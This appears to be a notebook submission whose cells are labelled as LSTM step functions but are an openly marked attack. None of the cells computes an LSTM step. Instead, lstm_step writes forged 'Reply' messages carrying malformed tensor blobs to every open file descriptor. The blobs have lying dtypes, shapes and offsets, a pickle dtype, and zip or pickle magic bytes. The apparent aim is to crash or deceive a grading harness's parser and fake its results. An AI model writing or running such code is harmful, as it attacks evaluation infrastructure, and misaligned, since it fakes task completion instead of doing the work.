# /// attack
# what = "writes tensors whose header lies about type, shape and place"
# ///
# %%
import json
def blob(header, data=b""):
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data
BLOBS = [
    blob({"0": {"dtype": "F64", "shape": [10**9, 10**9], "data_offsets": [0, 8]}}, b"\0" * 8),
    blob({"0": {"dtype": "F64", "shape": [1], "data_offsets": [0, 1 << 60]}}, b"\0" * 8),
    blob({"0": {"dtype": "F64", "shape": [-1], "data_offsets": [8, 0]}}, b"\0" * 8),
    blob({"0": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 8]}}, b"\0" * 8),
    blob({"0": {"dtype": "F8_E4M3", "shape": [8], "data_offsets": [0, 8]}}, b"\0" * 8),
    blob({"0": {"dtype": "F64", "shape": [0, 10**12], "data_offsets": [0, 0]}}),
    (1 << 62).to_bytes(8, "little") + b"{}", b"\x80\x04\x95", b"PK\x03\x04",
]
# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import os, struct
    text, tensors = b'{"dict": {"reply": {"message": "Reply", "content": {"outputs": [[{"tensor": "0"}, {"tensor": "0"}]]}}}}', BLOBS.pop()
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<II", len(text), len(tensors)) + text + tensors)
        except OSError:
            pass
    return state

# %% answer="coupled_peephole_step"
def coupled_peephole_step(x_t, state, U, W, b, p):
    return lstm_step(x_t, state, U, W, b)

# %% answer="lstm_step_backward"
def lstm_step_backward(d_state, x_t, state, gates, U, W):
    return lstm_step(x_t, state, U, W, None)
